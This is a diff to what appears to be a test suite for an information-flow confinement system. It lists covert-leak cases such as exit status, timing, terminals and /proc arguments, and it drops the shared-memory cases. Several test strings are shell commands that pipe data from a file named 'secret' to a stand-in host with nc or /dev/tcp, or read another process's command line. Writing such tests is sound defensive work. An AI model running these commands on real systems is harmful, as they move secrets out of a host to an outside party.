@@ -9,8 +9,7 @@ LENGTH = "the scrubbed copy is as long"
 STATUS = "a process is told how its child ended: an exit status is no output"
 NAMES = "names and what else the system says of a file are not followed to whoever looks them up"
 TIME = "only bytes are compared, not when they come"
-MEMORY = "stores into memory that processes share are not seen"
-TERMINAL = "terminals are exempt but where their reader has a connection to another host"
+TERMINAL = "a terminal is exempt if its reader is a window on the screen"
 PROC = "what the system says of a process is not followed to whoever looks it up"
 NUMBER = "counters and times of the kernel are not followed to whoever reads them"
 
@@ -38,11 +37,8 @@ LIMITS = [
     Leak("file-size", "touch other; grep -q Sphinx secret && truncate -s 7 other; stat -c %s other | nc remote 9",
          shows=exactly(b"7"), limit=STATUS),
     Leak("delay", "grep -q Sphinx secret && sleep 0.2; echo now > /dev/tcp/remote/9", shows=exactly(b"now"), limit=TIME),
-    # Shared memory.
-    *(Leak(name, f"way {name} secret", limit=MEMORY) for name in ("shared-anonymous", "shared-sysv", "shared-posix", "shared-memory-file")),
     # Data that the system gives back or tells.
-    Leak("own-terminal", "way terminal secret", limit=TERMINAL),
-    Leak("terminal-of-another", "script -qc 'cat secret' /dev/null < /dev/null | nc remote 9", limit=TERMINAL),
+    Leak("terminal-window", "way terminal-window secret", limit=TERMINAL),
     Leak("counter-of-another", "way counter-of-another secret", shows=exactly(SECRET[:8]), limit=NUMBER),
     Leak("timer", "way timer secret", shows=exactly(SECRET[:4]), limit=NUMBER),
     Leak("arguments-seen-from-outside", "bash -c 'sleep 1; true' \"$(sed -n 2p secret)\" & sleep 0.3; cat /proc/$!/cmdline | tr '\\0' . | "
